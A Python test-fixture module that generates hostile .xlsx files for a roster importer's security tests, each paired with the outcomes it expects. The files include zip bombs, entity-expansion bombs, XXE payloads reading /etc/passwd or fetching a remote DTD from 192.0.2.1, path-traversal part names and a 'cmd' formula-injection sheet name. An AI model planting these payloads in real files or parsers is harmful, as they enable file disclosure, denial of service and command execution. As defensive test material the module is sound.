"""Workbooks of the .xlsx kind that no honest program wrote: (name, content, outcomes that are right)."""

from __future__ import annotations

from collections.abc import Iterator
from xml.sax.saxutils import escape, quoteattr

from tests.support.hostile_files.hostile_zip import Part, repeated, zipped

Case = tuple[str, bytes, set[str]]
READ, LARGE, DAMAGED = {"read"}, {"too_large"}, {"damaged"}
WIDE = READ | LARGE | DAMAGED
REFUSED = LARGE | DAMAGED | {"no_roster_sheet", "not_a_workbook"}
HEADERS = ["姓名", "身份证号", "单位名称", "技能等级", "技能等级取得时间", "职称", "职称取得时间", "2024年度考核", "荣誉称号", "备注"]
PERSON = ["赵示例", "", "恶意测试厂", "高级工", "2015-06-30", "无", "", "合格", "无", ""]
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_RELATED = "http://schemas.openxmlformats.org/package/2006/relationships"
_SPREADSHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml"
_XML = '<?xml version="1.0" encoding="UTF-8"?>'
OPEN, CLOSE = f'{_XML}<worksheet xmlns="{MAIN}"><sheetData>', "</sheetData></worksheet>"


def cell(text: object, more: str = "") -> str:
    """A cell of inline text without a reference."""
    return f'<c t="inlineStr"{more}><is><t xml:space="preserve">{escape(str(text))}</t></is></c>' if text != "" else "<c/>"


def row(cells: list[object], more: str = "") -> str:
    return f"<row{more}>{''.join(map(cell, cells))}</row>"


def people(*persons: list[object], headers: list[str] = HEADERS) -> str:
    """The rows of a roster, no reference on any cell."""
    return "".join(map(row, [headers, *(persons or [PERSON])]))


ROSTER = people()


def sheet(rows: str = ROSTER, before: str = "", after: str = "") -> bytes:
    """A worksheet part: ``before`` and ``after`` stand around its sheetData."""
    return f'{_XML}<worksheet xmlns="{MAIN}" xmlns:r="{_R}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'.encode()


def frame(names: list[str], targets: list[str] | None = None, before: str = "", after: str = "", related: str = "") -> list[Part]:
    """What a package needs beside its sheets: content types, relationships and workbook.xml; ``names`` are attributes in full."""
    targets = [f"worksheets/sheet{at}.xml" for at in range(1, len(names) + 1)] if targets is None else targets
    sheets = "".join(f'<sheet {name} sheetId="{at}" r:id="rId{at}"/>' for at, name in enumerate(names, 1))
    links = "".join(f'<Relationship Id="rId{at}" Type="{_R}/worksheet" Target={quoteattr(to)}/>' for at, to in enumerate(targets, 1))
    links += f'<Relationship Id="rIdS" Type="{_R}/sharedStrings" Target="sharedStrings.xml"/>'
    links += f'<Relationship Id="rIdT" Type="{_R}/styles" Target="styles.xml"/>{related}'
    types = '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    types += '<Default Extension="xml" ContentType="application/xml"/>'
    types += f'<Override PartName="/xl/workbook.xml" ContentType="{_SPREADSHEET}.sheet.main+xml"/>'
    types += "".join(f'<Override PartName="/xl/{to}" ContentType="{_SPREADSHEET}.worksheet+xml"/>' for to in targets[:50])
    book = f'{_XML}<workbook xmlns="{MAIN}" xmlns:r="{_R}">{before}<sheets>{sheets}</sheets>{after}</workbook>'
    root = f'<Relationship Id="rId1" Type="{_R}/officeDocument" Target="xl/workbook.xml"/>'
    return [
        Part("[Content_Types].xml", f'{_XML}<Types xmlns="{_TYPES}">{types}</Types>'.encode()),
        Part("_rels/.rels", f'{_XML}<Relationships xmlns="{_RELATED}">{root}</Relationships>'.encode()),
        Part("xl/workbook.xml", book.encode()),
        Part("xl/_rels/workbook.xml.rels", f'{_XML}<Relationships xmlns="{_RELATED}">{links}</Relationships>'.encode()),
    ]


def named(*names: str) -> list[str]:
    return [f"name={quoteattr(name)}" for name in names]


def parts(*sheets: bytes | Part, extra: tuple[Part, ...] = (), **options: str) -> list[Part]:
    """The parts of a workbook of these sheets, called 花名册, 表2, 表3 …."""
    names = named(*["花名册", *[f"表{at}" for at in range(2, len(sheets) + 1)]])
    made = [one if isinstance(one, Part) else Part(f"xl/worksheets/sheet{at}.xml", one) for at, one in enumerate(sheets or (sheet(),), 1)]
    return [*frame(names or named("花名册"), **options), *made, *extra]


def book(*sheets: bytes | Part, **options: object) -> bytes:
    return zipped(parts(*sheets, **options))


def swollen(
    unit: str, times: int, before: str = OPEN, after: str = CLOSE, name: str = "xl/worksheets/sheet1.xml", together: int = 1_000_000
) -> Part:
    """A part that says ``unit`` ``times`` over; ``together`` is that of `repeated`."""
    return repeated(name, before.encode(), unit.encode(), times, after.encode(), together)


def strings(inner: str = "", unit: str = "", times: int = 0) -> Part:
    return swollen(unit or " ", times, f'{_XML}<sst xmlns="{MAIN}">{inner}', "</sst>", "xl/sharedStrings.xml")


def styles(inner: str = "", unit: str = "", times: int = 0, after: str = "") -> Part:
    return swollen(unit or " ", times, f'{_XML}<styleSheet xmlns="{MAIN}">{inner}', f"{after}</styleSheet>", "xl/styles.xml")


def packages() -> Iterator[Case]:
    """Zip directories that do not tell the truth."""
    whole = parts(sheet())
    zero = Part("xl/media/0", unit=bytes(1_000_000), times=100)
    yield "overlapping", zipped([*whole, zero, *[Part(f"xl/media/{at}", shares=True) for at in range(1, 3000)]]), READ | LARGE | DAMAGED
    yield "entries-70k", zipped([*whole, *[Part(f"{at:x}", shares=True) for at in range(70_000)]]), LARGE | DAMAGED
    big = swollen(" " * 1000, 400_000, OPEN + ROSTER)
    for said in (0, 100, 0xFFFFFFFE):
        big.said = said
        yield f"says-{said}", book(big), DAMAGED | LARGE
    small = Part("xl/worksheets/sheet1.xml", sheet(), said=0xFFFFFFFE)
    yield "says-more", book(small), WIDE
    yield "stored", zipped([Part(part.name, part.head, method=0) for part in whole]), READ
    for method in (9, 12, 14, 93, 99):
        yield f"method-{method}", zipped([Part(part.name, part.head, method=method) for part in whole]), DAMAGED | {"unsupported_format"}
    yield "flag-encrypted", zipped([Part(part.name, part.head, flags=1) for part in whole]), DAMAGED | {"encrypted"}
    yield "flag-streamed", zipped([Part(part.name, part.head, flags=8) for part in whole]), READ | DAMAGED
    yield "before", zipped(whole, before=b"MZ" + bytes(5000)), READ | DAMAGED | {"not_a_workbook"}
    yield "after", zipped(whole, after=bytes(5000)), READ | DAMAGED | {"not_a_workbook"}
    yield "two-in-one", zipped(whole) + zipped(whole), READ | DAMAGED
    yield "nested", zipped([Part("花名册.xlsx", zipped(whole))]), {"archive"}
    yield "zip-as-sheet", book(zipped(whole)), DAMAGED | {"no_roster_sheet"}
    yield "nothing", zipped([]), DAMAGED | {"not_a_workbook"}
    yield "one-file", zipped([Part("a.txt", b"a")]), {"archive"}
    twice = [*whole, Part("xl/worksheets/sheet1.xml", sheet("<row><c><v>1</v></c></row>"))]
    yield "part-twice", zipped(twice), READ | DAMAGED | {"no_roster_sheet"}
    for at in (1, 5, 30, 60, 90, 99):
        content = zipped(whole)
        yield f"cut-{at}", content[: len(content) * at // 100], DAMAGED | ({"not_a_workbook"} if at == 1 else set())
    flipped = bytearray(zipped(whole))
    for at in range(200, len(flipped) - 1200, 97):
        flipped[at] ^= 0x55
    yield "flipped", bytes(flipped), DAMAGED | {"not_a_workbook"}


def markup() -> Iterator[Case]:
    """XML that its readers should beware of."""
    laughs = "<!DOCTYPE x [" + '<!ENTITY a0 "哈哈哈哈哈哈哈哈">'
    laughs += "".join(f'<!ENTITY a{at} "' + f"&a{at - 1};" * 10 + '">' for at in range(1, 12)) + "]>"
    secret = '<!DOCTYPE x [<!ENTITY a11 SYSTEM "file:///etc/passwd">]>'
    remote = '<!DOCTYPE x SYSTEM "http://192.0.2.1/evil.dtd" [<!ENTITY % p SYSTEM "http://192.0.2.1/p"> %p; <!ENTITY a11 SYSTEM "http://192.0.2.1/a">]>'
    person = people(["赵示例&a11;", *PERSON[1:]]).replace("&amp;", "&")
    for name, declared in (("laughs", laughs), ("secret", secret), ("remote", remote)):
        at = _XML + declared
        yield f"{name}-sheet", book(sheet(person).replace(_XML.encode(), at.encode())), DAMAGED
        lines = f'{at}<sst xmlns="{MAIN}"><si><t>赵示例&a11;</t></si></sst>'.encode()
        shared = person.replace(cell("赵示例&a11;").replace("&amp;", "&"), '<c t="s"><v>0</v></c>')
        yield f"{name}-strings", book(sheet(shared), extra=(Part("xl/sharedStrings.xml", lines),)), DAMAGED
        for part in range(4):
            made = parts(sheet())
            made[part].head = made[part].head.replace(_XML.encode(), at.encode()).replace(b"></", b">&a11;</", 1)
            yield f"{name}-part-{part}", zipped(made), DAMAGED | (READ if part < 2 else set())
        loose = Part("docProps/app.xml", f"{at}<a>&a11;</a>".encode())
        yield f"{name}-properties", book(sheet(), extra=(loose,)), READ | DAMAGED
    yield "nested-tail", book(swollen("<a>", 200_000, OPEN + ROSTER)), WIDE
    yield "nested-strings", book(sheet(), extra=(strings("", "<si>", 1_000_000),)), READ | LARGE | DAMAGED
    yield "nested-closed", book(sheet(after="<extLst>" + "<ext>" * 200_000 + "</ext>" * 200_000 + "</extLst>")), WIDE
    yield "nested-book", book(sheet(), before="<x>" * 200_000 + "</x>" * 200_000), WIDE
    yield "attribute-100mb", book(swollen("a" * 1000, 100_000, f'{OPEN}{ROSTER}<row x="', f'"/>{CLOSE}')), WIDE
    yield "name-100mb", book(swollen("a" * 1000, 100_000, f"{OPEN}{ROSTER}<", f"/>{CLOSE}")), WIDE
    many = " ".join(f'a{at:x}="1"' for at in range(200_000))
    spaces = " ".join(f'xmlns:a{at:x}="u{at:x}"' for at in range(100_000))
    yield "attributes-200k", book(sheet(f"{ROSTER}<row {many}/>")), WIDE
    yield "attributes-cell", book(sheet(f"{ROSTER}<row><c {many}><v>1</v></c></row>")), WIDE
    yield "namespaces-100k", book(sheet(f"{ROSTER}<row {spaces}/>")), WIDE
    whole = sheet().decode()
    for code in ("utf-16", "utf-16-be", "utf-32", "gb18030", "utf-7"):
        yield f"coded-{code}", book(whole.replace("UTF-8", code.upper()).encode(code)), READ | DAMAGED | {"no_roster_sheet"}
    yield "coded-wrongly", book(whole.replace("UTF-8", "UTF-16").encode()), READ | DAMAGED
    yield "coded-unknown", book(whole.replace("UTF-8", "x-evil").encode()), READ | DAMAGED
    bad = f'<sst xmlns="{MAIN}"><si><t>'.encode() + b"\xff\xfe\xed\xa0\x80\xc0\xaf</t></si></sst>"
    yield (
        "strings-no-utf8",
        book(sheet(people([*PERSON[:-1], "x"]).replace(cell("x"), '<c t="s"><v>0</v></c>')), extra=(Part("xl/sharedStrings.xml", bad),)),
        READ | DAMAGED,
    )
    yield "controls", book(sheet(people(["赵\x00\x01\x1f\x7f示例", *PERSON[1:]]))), READ | DAMAGED
    yield (
        "references",
        book(sheet(people(["赵示例", *PERSON[1:-1], "x"]).replace(">x<", ">&#xD800;&#0;&#xFFFF;&#x110000;<"))),
        READ | DAMAGED,
    )
    yield "unclosed", book(whole.replace("</sheetData></worksheet>", "").encode()), READ | DAMAGED
    yield "foreign", book(whole.replace(MAIN, "urn:evil").encode()), READ | DAMAGED | {"no_roster_sheet"}
    strict = MAIN.replace("schemas.openxmlformats.org/spreadsheetml/2006", "purl.oclc.org/ooxml/spreadsheetml")
    yield "strict", book(whole.replace(MAIN, strict).encode()), READ | DAMAGED


def values() -> Iterator[Case]:
    """Cells whose values are no values: each beside a person who must not be lost."""
    mild = ("-1", "0", "0.5", "60", "-0.0", "1e-400", "2958465", "2958466", "100000000", "-100000000", "")
    wild = ("1e308", "1e999", "-1e999", "NaN", "INF", "0x10", " ", "1" * 400, "9" * 10_000, "abc")
    formats = styles('<cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="22"/><xf numFmtId="46"/></cellXfs>')
    for name, more in (("plain", ""), ("date", ' s="1"'), ("time", ' s="2"'), ("span", ' s="3"'), ("no-style", ' s="99999999999"')):
        for kind, numbers, right in (("mild", mild, READ), ("wild", wild, READ | DAMAGED)):
            rows = "".join(_with(f"<c{more}><v>{number}</v></c>") for number in numbers)
            yield (
                f"numbers-{kind}-{name}",
                book(sheet(row(HEADERS) + rows), extra=(formats,)),
                right | (DAMAGED if name == "no-style" else set()),
            )
    for name, one in {
        "string-index": '<c t="s"><v>99999999</v></c>',
        "string-negative": '<c t="s"><v>-1</v></c>',
        "string-words": '<c t="s"><v>abc</v></c>',
        "boolean": '<c t="b"><v>7</v></c>',
        "iso-date": '<c t="d"><v>99999-99-99T99:99:99</v></c>',
        "iso-date-far": '<c t="d"><v>9999-12-31</v></c>',
        "iso-date-early": '<c t="d"><v>0001-01-01</v></c>',
        "error": '<c t="e"><v>#EVIL!</v></c>',
        "error-known": '<c t="e"><v>#N/A</v></c>',
        "type": '<c t="evil"><v>1</v></c>',
        "formula": "<c><f>1+1</f></c>",
        "formula-shared": '<c><f t="shared" si="99999999" ref="A1:XFD1048576"/><v>1</v></c>',
        "formula-array": '<c><f t="array" ref="A1:XFD1048576">1</f><v>1</v></c>',
        "formula-long": f"<c><f>{'(' * 100_000}</f><v>1</v></c>",
        "twice": "<c><v>1</v><v>2</v></c>",
    }.items():
        yield name, book(sheet(row(HEADERS) + _with(one)), extra=(formats, strings("<si><t>a</t></si>"))), READ | DAMAGED
    yield (
        "date-1904",
        book(sheet(row(HEADERS) + _with('<c s="1"><v>2957003</v></c>')), before='<workbookPr date1904="1"/>', extra=(formats,)),
        READ,
    )


def _with(one: str) -> str:
    """A person's row whose dates are the cell ``one``, and whose number, honours and assessment are it as well."""
    made = "".join(one if at in (1, 4, 6, 7, 8, 9) else cell(text) for at, text in enumerate(PERSON))
    return f"<row>{made}</row>"


def structures() -> Iterator[Case]:
    """Workbooks whose parts do not fit together."""
    whole = sheet()
    one = Part("xl/worksheets/sheet1.xml", whole)
    lost = DAMAGED | {"no_roster_sheet", "not_a_workbook"}
    yield "absolute", zipped([*frame(named("花名册"), ["/xl/worksheets/sheet1.xml"]), one]), READ
    yield "dotted", zipped([*frame(named("花名册"), ["./../xl/worksheets/./sheet1.xml"]), one]), READ | DAMAGED
    for at, target in enumerate(
        (
            "../../../../etc/passwd",
            "/etc/passwd",
            "file:///etc/passwd",
            "http://192.0.2.1/sheet1.xml",
            "",
            "\x01".strip("\x01"),
            "workbook.xml",
        )
    ):
        yield f"target-{at}", zipped([*frame(named("花名册"), [target]), one]), lost
    for at, name in enumerate(("../../evil.xml", "/etc/evil.xml", "C:\\evil.xml", "a" * 60_000, "\0", "xl/worksheets/")):
        yield f"entry-{at}", zipped([*parts(whole), Part(name, b"evil")]), READ | DAMAGED
    yield "backslashes", zipped([Part(str(part.name).replace("/", "\\"), part.head) for part in parts(whole)]), READ | lost
    yield "capitals", zipped([Part(str(part.name).upper(), part.head) for part in parts(whole)]), READ | lost
    yield "capital-sheet", zipped([*frame(named("花名册")), Part("xl/Worksheets/Sheet1.XML", whole)]), READ | lost
    for name, gone in (("book", "xl/workbook.xml"), ("relationships", "xl/_rels/workbook.xml.rels"), ("sheet", "xl/worksheets/sheet1.xml")):
        yield f"no-{name}", zipped([part for part in parts(whole) if part.name != gone]), lost
    yield "no-types", zipped(parts(whole)[1:]), READ | lost
    yield "no-root", zipped([part for part in parts(whole) if part.name != "_rels/.rels"]), READ | lost
    lines = people().replace(cell("赵示例"), '<c t="s"><v>0</v></c>')
    yield "no-strings", book(sheet(lines)), READ | DAMAGED
    yield "no-second-sheet", zipped(frame(named("花名册", "表2")) + [one]), READ | DAMAGED
    yield "no-sheets", zipped(frame([])), lost
    twice = [one, Part("xl/worksheets/sheet2.xml", whole)]
    yield "names-equal", zipped(frame(named("花名册", "花名册")) + twice), READ | DAMAGED
    yield "names-of-people", zipped(frame(named("210100198501010014", "210100198501010022")) + twice), READ
    yield "names-missing", zipped(frame(["", ""]) + twice), READ | DAMAGED
    for at, name in enumerate(
        ("", "a" * 100_000, "../../etc", "[x]'!$A$1", "=cmd|' /C calc'!A0", "%s{0}\n\t", "\u202e\ufffe", "*?:/\\", "😀" * 31)
    ):
        yield f"name-{at}", zipped(frame(named(name)) + [one]), READ | DAMAGED
    for state in ("hidden", "veryHidden", "evil"):
        yield f"state-{state}", zipped(frame([f'name="花名册" state="{state}"']) + [one]), READ | DAMAGED
    empty = [Part(f"xl/worksheets/sheet{at}.xml", sheet("")) for at in range(2, 9_001)]
    yield "sheets-9k", zipped(frame(named(*[f"表{at}" for at in range(9_000)])) + [one, *empty]), READ | LARGE
    same = ["worksheets/sheet1.xml"] * 10_000
    yield "sheets-same", zipped(frame(named(*[f"表{at}" for at in range(10_000)]), same) + [one]), WIDE
    heavy = swollen("<row><c><v>1</v></c></row>", 400_000)
    yield "sheets-same-heavy", zipped(frame(named(*[f"表{at}" for at in range(2000)]), same[:2000]) + [heavy]), LARGE | lost
    yield "circle", book(whole, related=f'<Relationship Id="c" Type="{_R}/officeDocument" Target="workbook.xml"/>'), READ | DAMAGED
    outside = f'<Relationship Id="e" Type="{_R}/externalLink" Target="externalLinks/externalLink1.xml"/>'
    yield "external-links", book(whole, extra=(Part("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),), related=outside), READ
    yield "macros", book(whole, extra=(Part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(500)),)), READ
    macro = (
        f'{_XML}<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="{MAIN}"><sheetData/></xm:macrosheet>'
    )
    related = [part for part in frame(named("Macro1"), ["macrosheets/sheet1.xml"])]
    related[3].head = related[3].head.replace(
        f"{_R}/worksheet".encode(), b"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    )
    yield "macro-sheet", zipped([*related, Part("xl/macrosheets/sheet1.xml", macro.encode())]), {"macro_sheet"}
    yield (
        "chart-sheet",
        zipped([*frame(named("图"), ["chartsheets/sheet1.xml"]), Part("xl/chartsheets/sheet1.xml", b"<chartsheet/>")]),
        lost,
    )
    yield "other-tables", book(sheet(row(["品名", "数量", "单价", "金额"]))), {"no_roster_sheet"}
    yield "blank", book(sheet("")), {"no_roster_sheet"}
